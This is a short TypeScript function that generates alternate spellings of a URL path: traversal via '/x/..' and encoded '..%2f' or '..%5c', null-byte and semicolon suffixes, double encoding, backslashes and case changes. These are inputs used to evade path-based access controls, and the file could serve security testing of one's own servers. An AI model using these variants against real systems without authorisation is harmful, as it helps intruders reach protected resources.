/** Ways to write a path that some server somewhere takes for the same one. */
export const otherSpellings = (path: string): string[] => {
  const last = path.replace(/\/$/, '');
  const letter = last.search(/[a-z](?=[a-z]*$)/);
  const encoded = (at: number): string => `%${path.charCodeAt(at).toString(16)}`;
  const all = [
    `/${path}`,
    `//${path}`,
    `/.${path}`,
    `/./${path.slice(1)}`,
    `/x/..${path}`,
    `/x/%2e%2e${path}`,
    `/x/.%2E${path}`,
    `/x/..%2f${path.slice(1)}`,
    `/x/..%5c${path.slice(1)}`,
    `/x/..\\${path.slice(1)}`,
    `/%2e${path}`,
    `/%2f${path.slice(1)}`,
    `${path}/.`,
    `${path}/..${path}`,
    `${path}//`,
    `${path}%2f`,
    `${path}%00`,
    `${path}%00.json`,
    `${path};`,
    `${path};v=1`,
    `${path}%3bv=1`,
    `${path}\\`,
    `${path}%5c`,
    `${path}%0a`,
    `${path}%23`,
    `${path}%3f`,
    `${path}%20`,
    `${path}.`,
    `\\${path.slice(1)}`,
    `${path.slice(0, letter)}${encoded(letter)}${path.slice(letter + 1)}`,
    `${path.slice(0, letter)}${encoded(letter).toUpperCase()}${path.slice(letter + 1)}`,
    path.replace(/[a-z]/g, (c) => `%${c.charCodeAt(0).toString(16)}`),
    path.replace(/%?[a-z]/, (c) => `%25${c.charCodeAt(0).toString(16)}`),
    path.toUpperCase(),
    `${path.slice(0, letter)}${path.charAt(letter).toUpperCase()}${path.slice(letter + 1)}`,
    ...(path.endsWith('/') ? [] : [`${path}/`]),
  ];
  return [...new Set(all)].filter((spelling) => spelling !== path);
};
